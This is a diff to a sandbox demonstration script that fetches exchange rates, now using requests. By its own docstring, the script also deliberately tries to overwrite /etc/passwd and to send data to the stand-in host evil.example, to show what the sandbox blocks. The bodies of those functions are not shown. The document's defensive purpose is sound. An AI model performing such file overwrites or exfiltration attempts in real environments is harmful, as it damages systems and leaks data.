@@ -1,12 +1,16 @@
 """An agent-written script: fetch today's rates and print a one-line summary.
 
+Its dependencies (requirements.fixed.txt: requests, requests-oauthlib) are installed by
+`babuino run --packages`, through Sentinel's registry proxy only.
+
 It also does two things an agent should never be allowed to do, to show what the sandbox stops:
 it tries to overwrite /etc/passwd and to send data to a host nobody allowed.
 """
-import json
 import os
 import sys
 import urllib.request
+
+import requests
 
 RATES_URL = os.environ.get("RATES_URL", "http://rates.internal.test/today.json")
 
@@ -31,10 +35,11 @@ def exfiltrate():
 try_("write /etc/passwd", overwrite_passwd)
 try_("send data to evil.example", exfiltrate)
 
-with urllib.request.urlopen(RATES_URL, timeout=10) as resp:
-    rates = json.load(resp)
+resp = requests.get(RATES_URL, timeout=10)
+resp.raise_for_status()
+rates = resp.json()
 eur = rates["rates"]["EUR"]
-print(f"1 USD = {eur} EUR on {rates['date']}")
+print(f"1 USD = {eur} EUR on {rates['date']} (fetched with requests {requests.__version__})")
 with open("/out/summary.txt", "w") as f:  # /out is copied back with --output
     f.write(f"USD/EUR {eur} ({rates['date']})\n")
 sys.exit(0)
